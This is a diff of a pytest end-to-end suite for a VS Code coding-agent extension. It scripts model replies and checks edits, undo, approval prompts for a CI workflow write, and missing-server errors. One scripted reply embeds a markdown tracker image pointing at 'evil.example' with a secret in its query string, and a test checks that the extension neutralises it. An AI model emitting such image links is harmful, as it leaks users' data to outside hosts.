@@ -19,7 +19,6 @@ import subprocess
 import sys
 import time
 import urllib.request
-from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -53,9 +52,17 @@ SCENARIOS: dict[str, list[dict[str, Any]]] = {
         },
         {"text": "Changed **x** to 2. ![tracker](https://evil.example/pixel.png?q=secret)"},
     ],
+    # CI workflows are protected: even at the write tier each write asks the user first.
     "approval": [
-        {"tool_calls": [{"name": "shell", "arguments": {"command": "echo approved-run"}}]},
-        {"text": "The command ran."},
+        {
+            "tool_calls": [
+                {
+                    "name": "write_file",
+                    "arguments": {"path": ".github/workflows/ci.yml", "content": "name: ci\n"},
+                }
+            ]
+        },
+        {"text": "Wrote the workflow."},
     ],
     "proposal": [
         {"tool_calls": [{"name": "read_file", "arguments": {"path": "demo.py"}}]},
@@ -154,51 +161,36 @@ def vsix(tmp_path_factory: pytest.TempPathFactory) -> Path:
     return out
 
 
-@pytest.fixture(scope="module")
-def vscode_run(vsix: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
-    assert SERVER_EXECUTABLE.exists(), (
-        f"the server executable {SERVER_EXECUTABLE} is missing (pip install -e .)"
-    )
-    base = tmp_path_factory.mktemp("code-server")
+def _code_server_session(
+    vsix: Path, base: Path, settings: dict[str, Any], driver_options: dict[str, Any]
+) -> dict[str, Any]:
+    """Starts code-server with the .vsix and a scripted model, runs drive.mjs, stops everything."""
     workspace, user_data, extensions, state = (
         base / name for name in ("ws", "user-data", "extensions", "state")
     )
     for folder in (workspace, user_data / "User", extensions, state):
         folder.mkdir(parents=True)
     (workspace / "demo.py").write_text("x = 1\n")
-    (user_data / "User" / "settings.json").write_text(
-        json.dumps(
-            {
-                # VS Code saves refactoring edits by default; the tests check buffer and undo.
-                "files.refactoring.autoSave": False,
-                "claw.server.path": str(SERVER_EXECUTABLE),
-                "claw.tier": "write",
-                "claw.requestTimeout": 30,
-                "workbench.startupEditor": "none",
-                "security.workspace.trust.enabled": False,
-                "telemetry.telemetryLevel": "off",
-                "extensions.autoUpdate": False,
-                "extensions.autoCheckUpdates": False,
-                "update.mode": "none",
-                "workbench.tips.enabled": False,
-                "git.enabled": False,
-            },
-            indent=2,
-        )
-    )
+    user_settings = {
+        # VS Code saves refactoring edits by default; the tests check buffer and undo.
+        "files.refactoring.autoSave": False,
+        "workbench.startupEditor": "none",
+        "security.workspace.trust.enabled": False,
+        "telemetry.telemetryLevel": "off",
+        "extensions.autoUpdate": False,
+        "extensions.autoCheckUpdates": False,
+        "update.mode": "none",
+        "workbench.tips.enabled": False,
+        "git.enabled": False,
+        **settings,
+    }
+    (user_data / "User" / "settings.json").write_text(json.dumps(user_settings, indent=2))
     _run(
-        [
-            str(CODE_SERVER),
-            "--extensions-dir",
-            str(extensions),
-            "--user-data-dir",
-            str(user_data),
-            "--install-extension",
-            str(vsix),
-        ],
+        [str(CODE_SERVER), "--extensions-dir", str(extensions), "--user-data-dir", str(user_data),
+         "--install-extension", str(vsix)],
         REPO_ROOT,
         timeout=120,
-    )
+    )  # fmt: skip
 
     model = ScriptedModel().start()
     port = _free_port()
@@ -216,9 +208,9 @@ def vscode_run(vsix: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator
     code_server = subprocess.Popen(
         [
             str(CODE_SERVER), "--auth", "none", "--bind-addr", f"127.0.0.1:{port}",
-            "--extensions-dir", str(extensions),
-            "--user-data-dir", str(user_data), "--disable-telemetry", "--disable-update-check",
-            "--disable-workspace-trust", str(workspace),
+            "--extensions-dir", str(extensions), "--user-data-dir", str(user_data),
+            "--disable-telemetry", "--disable-update-check", "--disable-workspace-trust",
+            str(workspace),
         ],
         cwd=base, env=env, stdout=log_file, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
         start_new_session=True,
@@ -234,8 +226,7 @@ def vscode_run(vsix: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator
             "results": str(base / "results.json"),
             "screenshot": str(base / "conversation.png"),
             "artifacts": str(base / "artifacts"),
-            "scenarios": SCENARIOS,
-            "userSettings": str(user_data / "User" / "settings.json"),
+            **driver_options,
         }
         (base / "config.json").write_text(json.dumps(config))
         driver = subprocess.run(
@@ -248,13 +239,34 @@ def vscode_run(vsix: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator
         results["screenshotPath"] = Path(config["screenshot"])
         results["artifacts"] = base
         assert "fatal" not in results, (
-            f"driver failed before the scenarios ran: {results['fatal']}\n{results['driverOutput']}"
+            f"driver failed: {results['fatal']}\n{results['driverOutput']}\nartifacts: {base}"
         )
-        yield results
+        return results
     finally:
         _stop_process_group(code_server)
         log_file.close()
         model.stop()
+
+
+@pytest.fixture(scope="module")
+def vscode_run(vsix: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
+    assert SERVER_EXECUTABLE.exists(), f"{SERVER_EXECUTABLE} is missing (pip install -e .)"
+    settings = {
+        "claw.server.path": str(SERVER_EXECUTABLE),
+        "claw.tier": "write",
+        "claw.requestTimeout": 30,
+    }
+    return _code_server_session(
+        vsix, tmp_path_factory.mktemp("code-server"), settings, {"scenarios": SCENARIOS}
+    )
+
+
+@pytest.fixture(scope="module")
+def missing_server_run(vsix: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
+    settings = {"claw.server.path": "/nonexistent/claw-lsp"}
+    return _code_server_session(
+        vsix, tmp_path_factory.mktemp("code-server-missing"), settings, {"mode": "missingServer"}
+    )
 
 
 def _scenario(results: dict[str, Any], name: str) -> dict[str, Any]:
@@ -287,7 +299,7 @@ def test_ask_agent_edits_the_buffer_and_ctrl_z_reverts_it(vscode_run: dict[str, 
     assert record["bufferAfterEdit"].strip() == "x = 2"
     assert record["bufferAfterUndo"].strip() == "x = 1"
     # The buffer was never saved behind the user's back (files.refactoring.autoSave is off).
-    assert (vscode_run["workspace"] / "demo.py").read_text() == "x = 1\n"
+    assert record["diskAfterUndo"] == "x = 1\n"
     assert "Change x to 2" in _messages_text(record["requests"][0])
     assert "Changed x to 2." in record["turnText"]
     # The model's remote image was neutralised, not loaded.
@@ -297,11 +309,13 @@ def test_ask_agent_edits_the_buffer_and_ctrl_z_reverts_it(vscode_run: dict[str, 
 
 def test_approval_prompt_is_answered_and_the_tool_runs(vscode_run: dict[str, Any]) -> None:
     record = _scenario(vscode_run, "approval")
-    assert "echo approved-run" in record["approvalMessage"]
-    assert "Approval for shell" in record["turnText"]
-    tool_results = _messages_text(record["requests"][-1])
-    assert "approved-run" in tool_results
-    assert "The command ran." in record["turnText"]
+    assert ".github/workflows/ci.yml" in record["approvalMessage"]
+    assert "Approval for write_file: allowed once" in record["turnText"]
+    assert "Wrote the workflow." in record["turnText"]
+    # The allowed write reached the model as a success, not as a denial.
+    last_messages = record["requests"][-1]["messages"]
+    tool_result = next(m for m in reversed(last_messages) if m.get("role") == "tool")
+    assert "denied" not in tool_result["content"].lower()
 
 
 def test_proposal_is_reviewed_in_a_diff_and_accepted(vscode_run: dict[str, Any]) -> None:
@@ -320,8 +334,8 @@ def test_cancel_stops_a_slow_stream(vscode_run: dict[str, Any]) -> None:
     assert "END-OF-STREAM" not in record["turnText"]
 
 
-def test_a_missing_server_is_reported_with_a_fix(vscode_run: dict[str, Any]) -> None:
-    record = _scenario(vscode_run, "missingServer")
+def test_a_missing_server_is_reported_with_a_fix(missing_server_run: dict[str, Any]) -> None:
+    record = _scenario(missing_server_run, "missingServer")
     assert '"/nonexistent/claw-lsp" was not found' in record["message"]
     assert "pipx install claw-lsp" in record["message"] and "claw.server.path" in record["message"]
     assert "Open Settings" in record["message"]
